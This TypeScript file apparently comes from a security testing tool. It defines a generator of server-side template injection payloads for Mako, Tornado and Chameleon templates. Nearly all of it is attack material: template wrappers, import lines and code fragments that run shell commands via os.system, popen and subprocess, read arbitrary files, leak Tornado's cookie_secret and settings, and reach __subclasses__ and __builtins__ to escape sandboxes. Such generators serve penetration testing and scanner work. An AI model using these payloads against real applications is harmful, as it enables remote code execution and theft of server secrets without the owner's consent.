// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the notation of templates
import { templateGenerator } from '../template-generator.js';

/** Mako, Tornado, Genshi: Python in a page. */
export const pythonEngines = templateGenerator({
  name: 'python-engines',
  engines: ['mako', 'tornado', 'chameleon'],
  rules: {
    start: [
      '${l}{code}{r}',
      '<% {code} %>',
      '<%\n{import}\nx={code}\n%>${l}x{r}',
      '{l}% import os %{r}{o}{code}{c}',
      '{l}% {import} %{r}{o} {code} {c}',
      '{o}{code}{c}',
      '<?python {import} ?>${l}{code}{r}',
      '{l}% raw {code} %{r}',
      '% {import}\n${l}{code}{r}',
      '<%!{import}%>${l}{code}{r}',
    ],
    import: ['import os', 'import subprocess', 'from os import popen', '__import__("os")'],
    code: [
      "self.module.cache.util.os.system('{command}')",
      "os.popen('{command}').read()",
      "self.template.module.runtime.util.os.popen('{command}').read()",
      "__import__('os').popen('{command}').read()",
      "handler.settings['cookie_secret']",
      'handler.application.settings',
      "open('{file}').read()",
      "self.attr._NSAttr__parent.module.cache.util.os.system('{command}')",
      "subprocess.check_output('{command}',shell=True)",
      "__import__('subprocess').getoutput('{command}')",
      '().__class__.__base__.__subclasses__()',
      'eval(\'__import__("os").system("{command}")\')',
      "context._with_template.module.runtime.util.os.popen('{command}').read()",
      "globals()['__builtins__']",
    ],
  },
});
